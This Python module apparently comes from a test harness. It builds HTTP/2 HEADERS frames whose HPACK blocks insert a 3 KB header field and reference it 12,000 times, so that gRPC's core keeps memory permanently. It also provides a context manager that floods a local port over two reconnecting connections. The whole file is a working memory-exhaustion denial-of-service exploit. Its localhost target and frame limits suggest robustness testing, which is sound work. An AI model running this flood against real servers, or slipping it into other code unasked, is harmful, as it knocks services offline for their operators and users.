"""Frames that make gRPC's core keep memory permanently: references into an HPACK table (RFC 7541).

Each frame adds a field of 3 KB to the table and refers to it 12,000 times, within 15 KB.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
from collections.abc import Callable, Iterator

_FIELDS = {
    b":method": b"POST",
    b":scheme": b"http",
    b":path": b"/tandem.v1.Inference/Generate",
    b":authority": b"x",
    b"te": b"trailers",
    b"content-type": b"application/grpc",
}
_VALUE_BYTES = 3000
_NUM_REFERENCES = 12_000


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    size = struct.pack(">I", len(payload))[1:]
    return size + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _number(value: int) -> bytes:
    """Encodes the rest of an HPACK integer after its prefix of 7 bits."""
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


_BLOCK = (
    b"".join(_literal(name, value) for name, value in _FIELDS.items())
    + b"\x40\x01z\x7f"
    + _number(_VALUE_BYTES - 127)
    + b"v" * _VALUE_BYTES
    + b"\xbe" * _NUM_REFERENCES
)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0)


def hostile_headers(number: int) -> bytes:
    """Builds the hostile HEADERS frame of the nth stream of a connection."""
    return _frame(1, 4, 2 * number + 1, _BLOCK)


@contextlib.contextmanager
def hpack_attack(port: int, *, is_over: Callable[[], bool], num_frames_max: int) -> Iterator[None]:
    """Runs two connections that send hostile frames and reconnect, until `is_over()`, a limit on
    the number of frames, or the end of the block."""
    ended = threading.Event()
    left = iter(range(num_frames_max))

    def flood() -> None:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as sock:
            sock.sendall(PREFACE)
            number = 0
            while not ended.is_set() and not is_over() and next(left, None) is not None:
                sock.settimeout(5)
                sock.sendall(hostile_headers(number))
                number += 1
                sock.settimeout(0.001)
                with contextlib.suppress(TimeoutError):
                    if not sock.recv(1 << 20):
                        return

    def go_on() -> None:
        while not ended.wait(0.02) and not is_over() and next(left, None) is not None:
            with contextlib.suppress(OSError):
                flood()

    threads = [threading.Thread(target=go_on) for _ in range(2)]
    for thread in threads:
        thread.start()
    try:
        yield
    finally:
        ended.set()
        for thread in threads:
            thread.join()
